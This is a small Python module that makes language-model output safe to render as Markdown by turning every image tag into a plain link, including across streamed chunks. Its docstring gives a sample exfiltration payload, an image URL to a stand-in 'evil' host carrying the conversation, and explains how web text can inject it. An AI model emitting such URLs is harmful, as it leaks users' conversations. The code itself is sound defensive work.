"""Make model output safe to show as Markdown.

Model output is never rendered as HTML (Streamlit escapes it), and images are never loaded from it:
text the model read on the web could make it write `![x](https://evil/?q=<conversation>)`, and the
user's browser would send that request. Every image becomes a plain link instead.
"""

from __future__ import annotations

IMAGE_OPEN = "!["
LINKED_IMAGE = "[🖼 "


def safe_markdown(text: str) -> str:
    """Markdown with every image (`![alt](url)`, `![alt][ref]`) turned into a link."""
    return text.replace(IMAGE_OPEN, LINKED_IMAGE)


class SafeMarkdownStream:
    """`safe_markdown` for streamed chunks: holds back a trailing `!` until the next chunk decides it."""

    def __init__(self) -> None:
        self._held = ""

    def feed(self, chunk: str) -> str:
        text = self._held + chunk
        self._held = "!" if text.endswith("!") else ""
        return safe_markdown(text[: len(text) - len(self._held)])

    def flush(self) -> str:
        held, self._held = self._held, ""
        return held
